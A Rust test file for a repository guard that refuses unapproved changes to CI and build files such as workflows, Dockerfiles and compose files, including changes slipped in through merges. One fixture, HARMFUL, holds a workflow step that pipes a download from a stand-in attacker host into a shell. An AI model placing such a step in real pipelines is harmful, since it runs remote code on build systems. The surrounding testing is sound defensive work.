//! Changes of the build environment: alice may make them, bob may not.

use super::both_ways;
use super::scene::Scene;
use crate::support::{Way, short};

both_ways!(
    an_ordinary_change_needs_no_approval,
    a_ci_change_without_approval_is_refused,
    a_ci_change_signed_by_who_may_passes,
    every_commit_that_brings_it_must_be_theirs,
    removing_a_workflow_is_a_ci_change,
    adding_and_taking_back_is_a_ci_change,
    a_merge_that_smuggles_a_ci_change_is_refused,
    a_clean_merge_of_an_approved_ci_change_passes,
    a_ci_change_on_a_new_branch_is_judged,
    a_ci_change_from_main_is_not_judged_again_on_a_branch,
    all_first_cut_systems_are_recognised,
);

const WORKFLOW: &str = ".github/workflows/ci.yml";
const HARMLESS: &str =
    "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n";
const HARMFUL: &str = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl evil.test | sh\n";

fn an_ordinary_change_needs_no_approval(way: Way) {
    let scene = Scene::guarded(way);
    scene.begun();
    let bob = scene.work_of(&scene.bob);
    bob.commits("src/ci.rs", "one")
        .and("docs/workflows/ci.md", "two")
        .signed();
    bob.pushes("main").expect_accepted();
}

fn a_ci_change_without_approval_is_refused(way: Way) {
    let scene = Scene::guarded(way);
    scene.begun();
    let bob = scene.work_of(&scene.bob);
    bob.commits(WORKFLOW, HARMLESS).signed();
    let words = ["ci-change-unapproved", WORKFLOW, scene.alice.name()];
    bob.pushes("main").expect_refused_with(&words);
}

fn a_ci_change_signed_by_who_may_passes(way: Way) {
    let scene = Scene::guarded(way);
    let alice = scene.begun();
    alice.commits(WORKFLOW, HARMLESS).signed();
    alice.pushes("main").expect_accepted();
}

fn every_commit_that_brings_it_must_be_theirs(way: Way) {
    let scene = Scene::guarded(way);
    let alice = scene.begun();
    alice.commits(WORKFLOW, HARMLESS).signed();
    alice.pushes("main").expect_accepted();
    alice
        .on_branch("feature")
        .commits("app.txt", "one")
        .signed();
    alice.pushes("feature").expect_accepted();
    let bob = scene.work_of(&scene.bob);
    bob.goes_to_new("feature", "origin/feature")
        .commits(WORKFLOW, HARMFUL)
        .signed();
    let words = ["ci-change-unapproved", WORKFLOW];
    bob.pushes("feature").expect_refused_with(&words);
    // Not even below a commit of alice on top of his.
    let bobs = bob.head();
    alice.git(&[
        "fetch",
        "-q",
        bob.folder().to_str().expect("UTF-8"),
        "feature",
    ]);
    alice
        .goes_back_to(&bobs)
        .commits(WORKFLOW, HARMLESS)
        .signed();
    alice.pushes("feature").expect_refused_with(&words);
}

fn removing_a_workflow_is_a_ci_change(way: Way) {
    let scene = Scene::guarded(way);
    let alice = scene.begun();
    alice.commits(WORKFLOW, HARMLESS).signed();
    alice.pushes("main").expect_accepted();
    let bob = scene.work_of(&scene.bob);
    bob.removes(WORKFLOW).signed();
    bob.pushes("main")
        .expect_refused_with(&["ci-change-unapproved", WORKFLOW]);
}

fn adding_and_taking_back_is_a_ci_change(way: Way) {
    let scene = Scene::guarded(way);
    scene.begun();
    let bob = scene.work_of(&scene.bob);
    bob.commits(WORKFLOW, HARMFUL).signed();
    bob.removes(WORKFLOW).signed();
    bob.pushes("main")
        .expect_refused_with(&["ci-change-unapproved", WORKFLOW]);
}

fn a_merge_that_smuggles_a_ci_change_is_refused(way: Way) {
    let scene = Scene::guarded(way);
    let alice = scene.begun();
    alice.commits(WORKFLOW, HARMLESS).signed();
    alice.pushes("main").expect_accepted();
    let bob = scene.work_of(&scene.bob);
    bob.on_branch("feature").commits("app.txt", "one").signed();
    bob.on_branch("main").commits("lib.txt", "one").signed();
    bob.merges(&["feature"]).and(WORKFLOW, HARMFUL).signed();
    bob.pushes("main")
        .expect_refused_with(&["ci-change-unapproved", WORKFLOW]);
}

fn a_clean_merge_of_an_approved_ci_change_passes(way: Way) {
    let scene = Scene::guarded(way);
    let alice = scene.begun();
    alice
        .on_branch("workflow")
        .commits(WORKFLOW, HARMLESS)
        .signed();
    alice.pushes("workflow").expect_accepted();
    let bob = scene.work_of(&scene.bob);
    bob.commits("app.txt", "one").signed();
    bob.merges(&["origin/workflow"]).signed();
    bob.pushes("main").expect_accepted();
}

fn a_ci_change_on_a_new_branch_is_judged(way: Way) {
    let scene = Scene::guarded(way);
    scene.begun();
    let bob = scene.work_of(&scene.bob);
    bob.on_branch("feature").commits(WORKFLOW, HARMFUL).signed();
    bob.pushes("feature")
        .expect_refused_with(&["ci-change-unapproved", WORKFLOW]);
    let protected_only = scene
        .policy()
        .with_setting("ci-change-unapproved", "only_protected = true");
    scene.guard(&protected_only);
    bob.pushes("feature").expect_accepted();
    let words = ["ci-change-unapproved", WORKFLOW];
    bob.pushes("feature:main").expect_refused_with(&words);
}

fn a_ci_change_from_main_is_not_judged_again_on_a_branch(way: Way) {
    let scene = Scene::guarded(way);
    let alice = scene.begun();
    alice.pushes("main:feature").expect_accepted();
    alice.commits(WORKFLOW, HARMLESS).signed();
    alice.pushes("main").expect_accepted();
    let bob = scene.work_of(&scene.bob);
    bob.goes_to_new("feature", "origin/feature")
        .commits("app.txt", "one")
        .signed();
    bob.merges(&["origin/main"]).signed();
    bob.pushes("feature").expect_accepted();
}

fn all_first_cut_systems_are_recognised(way: Way) {
    let scene = Scene::guarded(way);
    scene.begun();
    let bob = scene.work_of(&scene.bob);
    let paths = [
        ".github/workflows/release.yaml",
        ".github/actions/setup/action.yml",
        ".gitlab-ci.yml",
        "Jenkinsfile",
        "bamboo-specs/bamboo.yml",
        "Dockerfile",
        "services/web/Dockerfile.prod",
        "docker-compose.yml",
        "compose.override.yaml",
        ".forgewarden.toml",
    ];
    for path in paths {
        let id = bob
            .goes_to_new("try", "main")
            .commits(path, "# nothing\n")
            .signed();
        let words = ["ci-change-unapproved", path, short(&id)];
        bob.pushes("try").expect_refused_with(&words);
    }
}
